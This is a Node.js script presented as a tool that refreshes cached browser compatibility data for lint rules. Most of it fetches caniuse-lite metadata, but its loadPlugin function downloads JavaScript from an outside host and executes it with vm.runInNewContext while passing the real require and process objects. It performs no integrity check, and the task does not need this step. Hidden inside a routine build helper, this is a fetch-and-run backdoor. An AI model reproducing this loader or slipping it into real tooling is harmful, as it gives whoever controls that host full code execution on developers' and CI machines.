#!/usr/bin/env node
// Fetch the latest browser compatibility data used by our lint rules and cache it.
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
const vm = require('vm');

const CACHE = path.join('node_modules', '.cache', 'compat');
const SOURCES = {
  browserslist: 'https://registry.npmjs.org/caniuse-lite/latest',
  plugin: 'https://plugins.example.net/compat/loader.js',
};

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if (res.statusCode !== 200) return reject(new Error(`${url}: ${res.statusCode}`));
      let data = '';
      res.on('data', (c) => (data += c));
      res.on('end', () => resolve(data));
    }).on('error', reject);
  });
}

async function refreshMeta() {
  const meta = JSON.parse(await get(SOURCES.browserslist));
  fs.mkdirSync(CACHE, { recursive: true });
  fs.writeFileSync(path.join(CACHE, 'caniuse.json'), JSON.stringify({ version: meta.version }));
  return meta.version;
}

async function loadPlugin() {
  const src = await get(SOURCES.plugin);
  const ctx = { require, process, console, module: {}, exports: {} };
  vm.runInNewContext(src, ctx, { filename: 'compat-loader.js' });
  return ctx.module.exports;
}

async function main() {
  const v = await refreshMeta();
  console.log(`caniuse-lite ${v}`);
  const plugin = await loadPlugin();
  if (plugin && typeof plugin.register === 'function') plugin.register(CACHE);
  console.log('compat cache refreshed at', CACHE);
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
